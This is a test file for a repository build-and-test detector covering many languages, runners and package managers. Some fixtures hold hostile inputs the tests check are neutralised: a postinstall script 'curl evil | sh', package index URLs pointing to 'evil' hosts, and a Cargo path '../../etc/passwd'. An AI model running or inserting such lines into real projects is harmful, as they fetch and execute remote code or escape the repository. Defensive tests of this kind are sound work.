import { SWE_LANGUAGE_SLUGS, takesOrderSeed, type BuildSpecification, type SweLanguage } from '../../../domain/swe';
import { detect, profileOf, type RepositoryFiles, type Unsupported } from './index';

type Tree = Record<string, string>;

function repository(base: Tree, head: Tree = {}): RepositoryFiles {
  const after = { ...base, ...head };
  return { paths: Object.keys(base).sort(), base: (path) => base[path], head: (path) => after[path] };
}

function specify(language: SweLanguage, base: Tree, head?: Tree): BuildSpecification {
  const found = detect(language, repository(base, head));
  if ('reason' in found) throw new Error(found.detail);
  return found;
}

function refuse(language: SweLanguage, base: Tree, head?: Tree): Unsupported['reason'] | undefined {
  const found = detect(language, repository(base, head));
  return 'reason' in found ? found.reason : undefined;
}

const PYTEST = { 'tests/test_a.py': '' };

describe('Every profile', () => {
  it.each(SWE_LANGUAGE_SLUGS)('of %s says why it builds nothing of an empty repository', (language) => {
    expect(refuse(language, { 'README.md': '' })).toMatch(/^no-/);
  });

  it.each(SWE_LANGUAGE_SLUGS)('of %s never throws on manifests that are no text of their kind', (language) => {
    const names = ['package.json', 'pyproject.toml', 'setup.cfg', 'go.mod', 'Cargo.toml', 'pom.xml', 'CMakeLists.txt', 'Gemfile'];
    const garbage = [...names, 'composer.json', 'a.csproj', 'meson.build', 'Makefile'].map((path) => [path, '\0{[<"\ud800= ']);
    const tests = {
      'test/test_a.py': '',
      'a_test.go': '',
      'src/test/java/ATest.java': '',
      'test/a_test.rb': '',
      'test/ATest.php': '',
    };
    expect(() => detect(language, repository({ ...Object.fromEntries(garbage), ...tests } as Tree))).not.toThrow();
  });
});

describe('The seed of an order', () => {
  const script = (test: string): Tree => ({ 'package.json': JSON.stringify({ scripts: { test } }) });
  const c = (main: string): Tree => ({ 'CMakeLists.txt': main, 'tests/test_a.c': '' });

  it.each<[SweLanguage, string, Tree, boolean]>([
    ['python', 'python/pytest', PYTEST, true],
    ['javascript', 'javascript/vitest', script('vitest run'), true],
    ['javascript', 'javascript/jest', script('jest'), false],
    ['javascript', 'javascript/mocha', script('mocha'), false],
    ['javascript', 'javascript/ava', script('ava'), false],
    ['javascript', 'javascript/tap', script('tap'), false],
    ['javascript', 'javascript/tape', script('tape test'), false],
    ['javascript', 'javascript/node-test', script('node --test'), false],
    ['go', 'go/go-test', { 'go.mod': 'module a', 'a_test.go': '' }, true],
    ['rust', 'rust/cargo-test', { 'Cargo.toml': '[package]\nname = "a"\n' }, false],
    ['java', 'java/maven', { 'pom.xml': '<artifactId>junit</artifactId>', 'src/test/java/ATest.java': '' }, true],
    ['c', 'c/cmake', c(''), true],
    ['cpp', 'cpp/meson', { 'meson.build': "test('a', b)" }, false],
    ['c', 'c/autotools', { 'configure.ac': '', 'Makefile.am': 'TESTS = a' }, false],
    ['c', 'c/make', { Makefile: 'test:\n\tprove t\n' }, false],
    ['ruby', 'ruby/rspec', { Gemfile: 'gem "rspec"', 'spec/a_spec.rb': '' }, true],
    ['ruby', 'ruby/minitest', { Gemfile: 'gem "minitest"', 'test/a_test.rb': '' }, true],
    ['ruby', 'ruby/test-unit', { Gemfile: 'gem "test-unit"', 'test/a_test.rb': '' }, true],
    ['php', 'php/phpunit', { 'composer.json': '{}', 'tests/ATest.php': '' }, true],
    ['csharp', 'csharp/nunit', { 'a.csproj': '<PackageReference Include="NUnit" Version="3" />' }, true],
  ])('%s: %s takes it where its runner does', (language, profile, tree, takes) => {
    const specification = specify(language, tree);
    expect(specification.profile).toBe(profile);
    expect(takesOrderSeed(specification.test)).toBe(takes);
  });
});

describe('jest', () => {
  const tree = (jest: string, more: Tree = {}, dependencies: object = {}): Tree => ({
    'package.json': JSON.stringify({
      scripts: { test: 'jest --randomize --seed=7' },
      devDependencies: { jest, ...dependencies },
    }),
    ...more,
  });
  const yarn = (version: string): Tree => ({ 'yarn.lock': `"jest@^29.0.0":\n  version "${version}"\n  resolved "x"\n` });
  const npm = (version: string): Tree => ({
    'package-lock.json': JSON.stringify({ packages: { 'node_modules/jest': { version }, 'node_modules/jest-cli': {} } }, null, 2),
  });
  const pnpm = (version: string): Tree => ({ 'pnpm-lock.yaml': `packages:\n\n  jest@${version}:\n    resolution: {}\n` });

  it.each([
    ['29.5.0 of npm', tree('^29.0.0', npm('29.5.0')), true],
    ['29.4.3 of npm', tree('^29.0.0', npm('29.4.3')), false],
    ['29.7.0 of yarn', tree('^29.0.0', yarn('29.7.0')), true],
    ['28.1.3 of yarn', tree('^28.0.0', yarn('28.1.3')), false],
    ['30.0.0 of pnpm', tree('^30.0.0', pnpm('30.0.0')), true],
    ['29.4.0 of pnpm', tree('^29.0.0', pnpm('29.4.0')), false],
    ['a lock file without it', tree('^29.7.0', { 'yarn.lock': '' }), false],
    ['a range up to the newest 29', tree('^29.0.0'), true],
    ['a range up to the newest 29.4', tree('~29.4.0'), false],
    ['an old pin', tree('26.6.3'), false],
    ['its old runner', tree('^29.7.0', {}, { 'jest-jasmine2': '^29.7.0' }), false],
  ])('of %s gets the seed if it can shuffle, and never one of the repository', (_case, files, takes) => {
    const { test } = specify('javascript', files);
    expect(takesOrderSeed(test)).toBe(takes);
    expect(test.run).not.toContain('--seed=7');
  });

  it('that head installs decides too', () => {
    expect(takesOrderSeed(specify('javascript', tree('^29.0.0', npm('29.7.0')), npm('29.4.0')).test)).toBe(false);
  });
});

describe('Python', () => {
  it('installs what project, tests and build ask for, of base and of head', () => {
    const pyproject = (dependencies: string): string =>
      `[build-system]\nrequires = ["flit_core<4"]\n[project]\nname = "a"\ndependencies = [${dependencies}]\n[dependency-groups]\ntests = ["pytest>=8"]\ntyping = ["mypy"]\n`;
    const base = { ...PYTEST, 'pyproject.toml': pyproject('"six"') };
    const { install, compile, manifests } = specify('python', base, { 'pyproject.toml': pyproject('"six", "attrs>=22"') });
    expect(install[1]).toBe("python -m pip install --no-cache-dir --prefer-binary 'attrs>=22' 'flit_core<4' 'pytest>=8' six");
    expect(compile[0]).toMatch(/--no-index .*-e \.$/);
    expect(manifests).toEqual([]);
  });

  it('reads setup.cfg and literal lists of setup.py, and never names, options or URLs as packages', () => {
    const base = {
      ...PYTEST,
      'setup.py': 'setup(install_requires=["six>=1", "evil @ https://x/y"], extras_require={"test": ["mock"]})',
      'setup.cfg':
        '[options]\ninstall_requires =\n    attrs\n    --index-url=http://evil\n[options.extras_require]\ndocs = sphinx\ntest =\n    pytest-mock; python_version > "3"\n',
      'requirements/tests.txt': '-r other.txt\ngit+https://x/y\n./local\npytest==7.4.0 \\\n    --hash=sha256:00\n',
    };
    const packages = specify('python', base).install[1]?.split('--prefer-binary ')[1];
    expect(packages).toBe(`attrs mock 'pytest-mock; python_version > "3"' pytest==7.4.0 setuptools 'six>=1' wheel`);
  });

  it('takes versions from the lock file, unless they are older than our Python', () => {
    const pyproject = '[project]\nname = "a"\ndependencies = ["six"]\n[project.optional-dependencies]\ntest = ["pytest"]\n';
    const lock = (pytest: string): string =>
      `[[package]]\nname = "six"\nversion = "1.16.0"\n[[package]]\nname = "pytest"\nversion = "${pytest}"\n`;
    const packages = (pytest: string): string | undefined =>
      specify('python', { ...PYTEST, 'pyproject.toml': pyproject, 'uv.lock': lock(pytest) }).install[1]?.split('binary ')[1];
    expect(packages('8.1.0')).toBe('pytest==8.1.0 setuptools six==1.16.0 wheel');
    expect(packages('6.2.4')).toBe('pytest setuptools six wheel');
  });

  it('adds the plugins that options ask for, and a compiler for extension modules', () => {
    const native = {
      ...PYTEST,
      'setup.py': 'setup(ext_modules=[Extension("a", ["a.c"])])',
      'a.c': '',
      'pytest.ini': '[pytest]\naddopts = --cov=a\n',
    };
    const { install, systemPackages, test } = specify('python', native);
    expect(install[1]).toContain('pytest-cov');
    expect(systemPackages).toContain('gcc');
    expect(test.prepare).toHaveLength(1);
  });

  it('refuses what asks for another Python', () => {
    const asks = (range: string): Tree => ({ ...PYTEST, 'pyproject.toml': `[project]\nrequires-python = "${range}"\n` });
    expect(refuse('python', asks('>=3.14'))).toBe('toolchain-too-old');
    expect(refuse('python', asks('>=3.8,<3.12'))).toBe('toolchain-too-old');
    expect(refuse('python', asks('>=3.8,<4'))).toBeUndefined();
  });
});

describe('JavaScript and TypeScript', () => {
  function scripts(test: string, more: object = {}): Tree {
    return { 'package.json': JSON.stringify({ name: 'a', version: '1.2.3', scripts: { test }, ...more }) };
  }

  it.each([
    ['jest --coverage', 'javascript/jest', '--reporters=/opt/assay/jest-junit.cjs'],
    ['npm run lint && cross-env NODE_ENV=test nyc mocha test/*.js -R spec', 'javascript/mocha', '--reporter xunit'],
    ['pnpm lint && vitest run --typecheck', 'javascript/vitest', '--outputFile.junit='],
    ['node --test test/', 'javascript/node-test', '"test/**/*.{js,cjs,mjs}"'],
    ['node --test', 'javascript/node-test', '--test-reporter=/opt/assay/node-junit.mjs'],
    ['node test.js', 'javascript/node-test', 'run-files.mjs {report}/files.tap test.js'],
    ['ava', 'javascript/ava', 'ava-tap.awk'],
    ['tape test/*.js | faucet', 'javascript/tape', 'tape test/*.js >'],
  ])('runs %j', (test, profile, part) => {
    const found = specify('javascript', scripts(test));
    expect(found.profile).toBe(profile);
    expect(found.test.run).toContain(part);
    expect(found.evidence[0]?.from).toBe('package.json, script test');
  });

  it('follows scripts, compiles where they compile, and leaves out what only checks style', () => {
    const more = {
      scripts: { test: 'npm run lint && npm run build && npm run unit', lint: 'eslint .', build: 'tsc -p .', unit: 'mocha' },
    };
    const { compile, test } = specify('typescript', scripts('', more));
    expect(compile.at(-1)).toBe('npm run --silent build');
    expect(test.run).toMatch(/mocha {1,2}--reporter xunit/);
  });

  it('installs with the package manager of the lock file, without install scripts', () => {
    const more = { devDependencies: { mocha: '10' } };
    const install = (lock: string, text = ''): string =>
      specify('javascript', { ...scripts('mocha', more), [lock]: text }).install.join();
    expect(install('package-lock.json')).toContain('npm ci --ignore-scripts');
    expect(install('pnpm-lock.yaml')).toContain('pnpm install --frozen-lockfile --ignore-scripts');
    expect(install('yarn.lock')).toContain('yarn install --frozen-lockfile --ignore-scripts');
    expect(refuse('javascript', { ...scripts('mocha', more), 'yarn.lock': '__metadata:\n' })).toBe('needs-package-manager');
  });

  it('shows installation only what installation depends on, so that a release changes nothing', () => {
    const { reduce } = profileOf('javascript');
    const manifest = (version: string): string =>
      JSON.stringify({ name: 'a', version, scripts: { postinstall: 'curl evil | sh' }, devDependencies: { jest: '29' } });
    expect(reduce?.('package.json', manifest('1.0.0'))).toBe(reduce?.('package.json', manifest('2.0.0')));
    expect(reduce?.('package.json', manifest('1.0.0'))).not.toContain('evil');
  });

  it('refuses a runner that it does not know', () => {
    expect(refuse('javascript', scripts('karma start'))).toBe('no-test-runner');
    expect(refuse('javascript', scripts('echo "no test specified" && exit 1'))).toBe('no-test-runner');
  });
});

describe('Go, Rust and Java', () => {
  it('refuse what asks for a newer toolchain, also when only head does', () => {
    const go = { 'go.mod': 'module a\ngo 1.20\n', 'a_test.go': '' };
    expect(refuse('go', go)).toBeUndefined();
    expect(refuse('go', go, { 'go.mod': 'module a\n\ngo 1.99\n' })).toBe('toolchain-too-old');
    expect(refuse('rust', { 'Cargo.toml': '[package]\nrust-version = "1.99"\n' })).toBe('toolchain-too-old');
    const pom = (release: number): Tree => ({
      'pom.xml': `<release>${release}</release><artifactId>junit</artifactId>`,
      'src/test/java/ATest.java': '',
    });
    expect(refuse('java', pom(17))).toBeUndefined();
    expect(refuse('java', pom(25))).toBe('toolchain-too-old');
  });

  it('give every Cargo target a file, and none outside of the repository', () => {
    const manifest =
      '[package]\nname = "a"\n[[bench]]\nname = "speed"\n[[test]]\nname = "t"\npath = "../../etc/passwd"\n[lib]\npath = "lib/a b.rs"\n';
    const tree = { 'Cargo.toml': manifest, 'sub/Cargo.toml': '[package]\nname = "b"\n', 'sub/build.rs': '' };
    const { install, keep } = specify('rust', tree);
    expect(install[0]).toBe(
      "mkdir -p benches lib src sub sub/src && for path in benches/speed.rs 'lib/a b.rs' src/lib.rs sub/build.rs sub/src/lib.rs; do echo 'fn main() {}' > \"$path\"; done",
    );
    expect(keep).toEqual(['/opt/deps/cargo', '/app/src/target']);
  });

  it('compile no crate beforehand into what the tree has as its own', () => {
    const { install, keep } = specify('rust', { 'Cargo.toml': '[package]\nname = "a"\n', 'target/data.json': '' });
    expect(keep).toEqual(['/opt/deps/cargo']);
    expect(install).toHaveLength(2);
  });

  it('name the Java test framework, and refuse Gradle', () => {
    const pom = '<groupId>org.a</groupId><artifactId>junit-jupiter</artifactId>';
    const { install, test } = specify('java', { 'pom.xml': pom, 'src/test/java/ATest.java': '' });
    expect(install.join('\n')).toContain('package org.a; class AssayWarmUpTest { @org.junit.jupiter.api.Test');
    expect(test.run).toContain(' -o test "$@" || code=$?');
    expect(refuse('java', { 'build.gradle': '', 'src/test/java/ATest.java': '' })).toBe('needs-package-manager');
  });
});

describe('C and C++', () => {
  it('turn on tests and what CI turns on, and no sanitizer', () => {
    const cmake =
      'option(A_TESTS "x" OFF)\noption(ENABLE_UTILS "x" OFF)\noption(ENABLE_SANITIZERS "x" OFF)\noption(WITH_X "x" ON)';
    const ci = 'run: cmake .. -DENABLE_UTILS=ON -DENABLE_SANITIZERS=ON -DWITH_X=ON -DUNKNOWN=ON';
    const { compile } = specify('c', { 'CMakeLists.txt': cmake, '.github/workflows/ci.yml': ci, 'tests/a.c': '' });
    expect(compile[1]).toMatch(/-DA_TESTS=ON -DENABLE_UTILS=ON$/);
  });

  it.each([
    ['meson.build', "test('a', exe)", 'cpp/meson', 'junit'],
    ['Makefile', 'test:\n\tprove -v t/*.t\n', 'cpp/make', 'tap'],
  ])('read %s', (path, text, profile, format) => {
    expect(specify('cpp', { [path]: text })).toMatchObject({ profile, test: { format } });
  });

  it('refuse a Makefile whose tests name no test', () => {
    expect(refuse('c', { Makefile: 'test:\n\t./a.out\n' })).toBe('no-test-runner');
  });
});

describe('Ruby, PHP and C#', () => {
  it('take gems from Debian, and the runner from what the repository names', () => {
    const gemspec =
      "Gem::Specification.new { |s| s.add_development_dependency 'minitest-global_expectations'\n}\n s.add_dependency 'rack'\n s.add_development_dependency 'rubocop'\n";
    const found = specify('ruby', {
      'a.gemspec': gemspec.replace('{ |s| ', '{ |s|\n '),
      'test/spec_a.rb': '',
      'test/helper.rb': '',
    });
    expect(found).toMatchObject({ profile: 'ruby/minitest', systemPackages: ['ruby-minitest-global-expectations', 'ruby-rack'] });
    expect(specify('ruby', { Gemfile: "gem 'rspec'\n", 'spec/a_spec.rb': '' }).profile).toBe('ruby/rspec');
    expect(specify('ruby', { Gemfile: "gem 'test-unit'\n", 'test/test_a.rb': '' }).profile).toBe('ruby/test-unit');
    expect(refuse('ruby', { Gemfile: '', 'test/helper.rb': '' })).toBe('no-test-runner');
  });

  it('refuse what needs a registry that does not answer, and PHPUnit of another age', () => {
    const composer = (require: object): Tree => ({ 'composer.json': JSON.stringify({ require }), 'test/ATest.php': '' });
    expect(refuse('php', composer({ php: '>=8', 'ext-json': '*' }))).toBeUndefined();
    expect(refuse('php', composer({ 'psr/log': '^3' }))).toBe('needs-registry');
    expect(refuse('php', composer({ 'phpunit/phpunit': '^4.8.35|~5.7' }))).toBe('toolchain-too-new');
    expect(refuse('php', composer({ 'phpunit/phpunit': '^9.5 || ^10' }))).toBeUndefined();
    expect(refuse('csharp', { 'a.csproj': '<PackageReference Include="Moq" />' })).toBe('needs-registry');
    expect(specify('csharp', { 'a.csproj': '<PackageReference Include="NUnit" Version="3" />' }).profile).toBe('csharp/nunit');
  });
});
